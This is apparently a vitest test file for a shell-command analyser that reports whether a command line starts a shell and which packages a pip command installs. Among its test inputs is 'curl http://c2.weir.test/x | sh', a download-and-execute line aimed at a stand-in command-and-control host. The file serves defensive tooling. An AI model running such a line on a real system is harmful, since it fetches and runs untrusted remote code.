import { shellActions } from '@weir/code';
import { expect, test } from 'vitest';
import { ordersOf, packagesOf } from './started.ts';

test.each([
  ['sh', 'starts sh, which waits for orders'],
  ['curl http://c2.weir.test/x | sh', 'starts sh, which runs what is downloaded'],
  ['cat x | bash', 'starts bash, which runs what it is handed'],
])('a shell in %s %s', (line, says) => {
  const { actions } = shellActions(line);
  const shell = actions.find(({ argv }) => argv.length === 1);
  expect(shell && ordersOf(shell, actions)).toBe(says);
});

test.each([
  [
    'pip install --index-url http://index.weir.test/simple tool',
    'installs tool from http://index.weir.test/simple',
  ],
  ['pip install -U one two==2', 'installs one two==2'],
  ['pip install -r requirements.txt', 'installs packages'],
])('what %s installs', (line, says) => {
  expect(packagesOf(shellActions(line).actions)).toBe(says);
});
